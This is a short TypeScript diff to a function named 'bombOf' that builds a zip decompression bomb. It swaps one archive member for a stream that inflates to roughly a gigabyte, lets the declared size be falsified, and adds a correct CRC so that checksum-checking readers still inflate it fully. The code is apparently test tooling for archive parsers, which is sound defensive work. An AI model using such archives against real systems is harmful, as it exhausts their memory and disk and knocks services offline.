@@ -100,11 +100,16 @@ export async function bombOf(archive: Buffer, target: string, head: string, fill
   const inflatedBytes = options.inflatedBytes ?? 1024 * MiB;
   const chunk = Buffer.from(filler.repeat(Math.max(1, Math.floor(MiB / filler.length))), 'utf8');
   const times = Math.ceil(inflatedBytes / chunk.length);
-  const stored = repeatedDeflate(Buffer.from(head, 'utf8'), chunk, times, Buffer.from(tail, 'utf8'));
-  const truth = head.length + times * chunk.length + tail.length;
+  const [start, end] = [Buffer.from(head, 'utf8'), Buffer.from(tail, 'utf8')];
+  const stored = repeatedDeflate(start, chunk, times, end);
+  const truth = start.length + times * chunk.length + end.length;
+  // The true checksum, so that a reader that checks it still inflates the whole part first.
+  let crc = crc32(start);
+  for (let i = 0; i < times; i++) crc = crc32(chunk, crc);
+  crc = crc32(end, crc);
   const parts: ZipPart[] = [];
   for (const [name, data] of await partsOf(archive)) {
-    if (name === target) parts.push({ name, stored, method: 8, declaredSize: options.declaredSize ?? Math.min(truth, 0xfffffffe), crc: 0 });
+    if (name === target) parts.push({ name, stored, method: 8, declaredSize: options.declaredSize ?? Math.min(truth, 0xfffffffe), crc });
     else parts.push(deflatedPart(name, data));
   }
   return zipOf(parts);
